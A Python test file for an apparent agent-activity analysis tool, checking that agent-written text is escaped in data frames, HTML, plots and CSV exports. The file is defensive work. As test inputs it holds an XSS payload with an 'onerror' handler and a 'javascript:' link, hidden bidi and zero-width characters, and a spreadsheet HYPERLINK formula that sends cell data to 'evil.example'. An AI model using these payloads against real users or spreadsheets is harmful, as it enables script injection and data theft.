"""What agents wrote is harmless in frames, their HTML, explanations and figures."""

import csv
import stat
import unicodedata
from datetime import UTC, datetime

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st
from matplotlib.text import Text

from guardian.analysis import explain, neutral, open_archive, overview, to_csv
from guardian.analysis.plots import plot_counts, plot_day, plot_delegation, plot_evidence, plot_signals, plot_steps

HOSTILE = "a\u202eb<img src=x onerror=alert(1)>$\\href{javascript:alert(1)}{x}$\u200b"


def hidden(text):
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co") and c not in "\n"]


def attacked(lay):
    lay(session_id="root" + HOSTILE, tool="t" + HOSTILE, agent_id=HOSTILE, purpose=HOSTILE, purpose_family=HOSTILE)
    return lay(
        session_id="child" + HOSTILE, parent_session_id="root" + HOSTILE, tool="x" + HOSTILE, agent_id=HOSTILE,
        purpose=HOSTILE, purpose_family=HOSTILE, arguments=HOSTILE, reason=HOSTILE, data_classes=[HOSTILE],
        allowed_tools=[HOSTILE], one_in=90_000.0, session_evidence=4.0, signals=[("purpose_fit", 0.9)],
        finding_id="fnd_1", wanted="revoke", resource_id=HOSTILE,
    )  # fmt: skip


def test_nothing_hidden_is_left_in_any_text_of_a_frame(lay):
    view = open_archive(attacked(lay), tenant="acme")
    for frame in (view.events(), view.sessions()):
        for name in frame.select_dtypes("string"):
            assert not [value for value in frame[name].dropna() if hidden(value)], name
    assert not hidden(" ".join(view.events()["allowed_tools"].iloc[1]))
    assert "‹U+202E›" in view.events()["purpose"].iloc[0]


def test_the_html_of_a_frame_is_escaped_and_sets_no_formula(lay):
    shown = open_archive(attacked(lay), tenant="acme").events()._repr_html_()
    assert "<img" not in shown
    assert "tex2jax_ignore" in shown
    assert not hidden(shown)


def test_an_explanation_is_escaped_in_html_and_plain_in_text(lay):
    found = explain(open_archive(attacked(lay), tenant="acme"), "child" + HOSTILE)
    assert "<img" not in found._repr_html_()
    assert "&lt;img" in found._repr_html_()
    assert "mathjax_ignore" in found._repr_html_()
    assert not hidden(str(found))


def test_figures_of_hostile_names_are_drawn_and_typeset_nothing(lay):
    view = open_archive(attacked(lay), tenant="acme")
    found = explain(view, "child" + HOSTILE)
    sessions = view.sessions()
    counts = overview.counted(sessions, "purpose_family")
    for figure in (
        plot_day(sessions),
        plot_counts(counts, title="by purpose"),
        plot_evidence(found),
        plot_signals(found),
        plot_steps(found),
        plot_delegation(found),
    ):
        assert figure.png().startswith(b"\x89PNG")
        for text in figure.findobj(Text):
            assert not hidden(text.get_text())
            assert "$" not in text.get_text().replace("\\$", "")  # an unescaped pair would be typeset


FORMULA = '=HYPERLINK("https://evil.example?"&A1,"ok")'


def test_no_text_of_a_frame_is_a_formula_in_a_spreadsheet(lay, tmp_path):
    for sign in "=+-@＝":
        root = lay(session_id=f"{sign}1+1", tool=FORMULA, arguments="a;=1+1", purpose=f"{sign}{FORMULA}")
    events = open_archive(root, tenant="acme").events()
    path = to_csv(events[1:], tmp_path / "week.csv")
    head, *rows = csv.reader(path.open(encoding="utf-8", newline=""))
    assert head == list(events)
    assert len(rows) == 4
    assert not [cell for row in rows for cell in row if cell.startswith((*"=+-@＝",))]
    assert dict(zip(head, rows[0], strict=True))["tool"] == f"'{FORMULA}"
    assert '"a;=1+1"' in path.read_text(encoding="utf-8"), "one cell where a semicolon parts them, too"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_what_a_frame_is_indexed_by_is_written_and_neither_that_nor_a_heading_is_a_formula(tmp_path):
    at = [datetime(2026, 5, 12, 12, n, tzinfo=UTC) for n in (0, 1)]
    frame = pd.DataFrame({"tool": [FORMULA, "=1"], "agent": ["a", "+b"], "at": at, "step": [-0.5, None]})
    counts = frame.pivot_table(index=["agent", "at"], columns="tool", values="step", aggfunc="sum")
    for each in (frame.set_index("tool"), counts, frame["tool"].value_counts().to_frame()):
        path = to_csv(each, tmp_path / "x.csv")
        cells = [cell for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
        assert f"'{FORMULA}" in cells
        assert not [cell for cell in cells if cell.startswith((*"=+@",))]
    read = pd.read_csv(to_csv(frame, tmp_path / "x.csv"), parse_dates=["at"])
    assert list(read["at"]) == at
    assert read["step"].iloc[0] == -0.5
    assert pd.isna(read["step"].iloc[1])


def test_numbers_that_a_frame_is_indexed_by_under_a_name_are_written_and_none_that_only_counts_rows(tmp_path):
    frame = pd.DataFrame({"hour": [9, 9, 17], "calls": [1, 2, 4]})

    def written(each):
        return (tmp_path / "x.csv").read_text("utf-8").splitlines() if to_csv(each, tmp_path / "x.csv") else []

    assert written(frame.groupby("hour").sum()) == ['"hour","calls"', "9,3", "17,4"]
    assert written(frame[frame["hour"] == 17]) == ['"hour","calls"', "17,4"]
    assert written(frame[:1].set_index("hour", drop=False)) == ['"hour","hour","calls"', "9,9,1"]


def test_what_hides_in_a_cell_is_spelt_out_whole(tmp_path):
    frame = pd.DataFrame({"tool": ["pay\u202eno", "=\u200b\u2060\u200b"]})
    told = to_csv(frame, tmp_path / "x.csv").read_text("utf-8")
    assert told.splitlines()[1:] == ['"pay‹U+202E›no"', '"\'=‹U+200B›‹U+2060›‹U+200B›"']


def test_names_that_look_alike_stay_apart(lay):
    lay(session_id="sess")
    lay(session_id="sess\u200b")
    root = lay(session_id=neutral.name("sess\u200b"))  # one that is called as another is shown
    assert len(open_archive(root, tenant="acme").sessions()) == 3


def test_a_session_is_found_by_its_own_name_and_by_the_one_shown(lay):
    view = open_archive(lay(session_id="sess\u200b7"), tenant="acme")
    assert len(view.events(session="sess\u200b7")) == 1
    assert len(view.events(session=neutral.name("sess\u200b7"))) == 1
    assert explain(view, "sess\u200b7").session["session_id"] == neutral.name("sess\u200b7")


@given(st.text(), st.text())
def test_two_names_are_shown_alike_only_if_they_are_one(one, other):
    assert (neutral.name(one) == neutral.name(other)) == (one == other)


@given(st.text(max_size=80))
def test_a_label_is_one_bounded_line_without_a_formula(text):
    label = neutral.label(text, 20)
    assert not hidden(label)
    assert "\n" not in label
    assert label.replace("\\$", "").count("$") == 0
    assert not label.startswith("_")
